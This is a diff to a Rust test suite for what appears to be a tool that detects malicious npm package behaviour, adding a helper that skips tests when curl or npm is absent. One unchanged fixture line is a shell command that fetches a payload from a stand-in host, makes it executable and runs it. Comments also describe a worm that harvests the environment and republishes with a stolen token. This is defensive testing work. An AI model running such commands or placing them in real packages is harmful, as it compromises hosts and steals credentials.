@@ -24,6 +24,16 @@ fn supported() -> bool {
     }
 }
 
+/// Whether a tool the imitation needs is installed (curl, npm); the test skips without it.
+fn have(tool: &str) -> bool {
+    let found =
+        std::env::var_os("PATH").is_some_and(|paths| std::env::split_paths(&paths).any(|dir| dir.join(tool).is_file()));
+    if !found {
+        eprintln!("skipping: `{tool}` is not installed");
+    }
+    found
+}
+
 /// A package named `name` with a `package.json` (scripts as JSON) and more files.
 fn package(name: &str, scripts: &str, files: &[(&str, &str)]) -> Target {
     let manifest = format!(r#"{{"name":"{name}","version":"1.0.0","main":"index.js","scripts":{scripts}}}"#);
@@ -189,7 +199,7 @@ fn shell_spawned_from_javascript_is_reported() {
 
 #[test]
 fn downloaded_file_made_executable_is_reported() {
-    if !supported() {
+    if !supported() || !have("curl") {
         return;
     }
     let script = "curl -s -o /tmp/payload http://dl.evil.example/payload; chmod +x /tmp/payload; /tmp/payload || true";
@@ -268,7 +278,7 @@ fn persistence_writes_are_reported_and_host_files_untouched() {
 
 #[test]
 fn direct_ip_connections_stay_inside_and_host_loopback_is_unreachable() {
-    if !supported() {
+    if !supported() || !have("curl") {
         return;
     }
     let host_listener = TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
@@ -529,7 +539,7 @@ fn es_module_entry_point_is_imported() {
 
 #[test]
 fn worm_republishing_and_environment_harvest_are_reported() {
-    if !supported() {
+    if !supported() || !have("npm") {
         return;
     }
     // Shai-Hulud style: read the process environment, then republish with the stolen token.
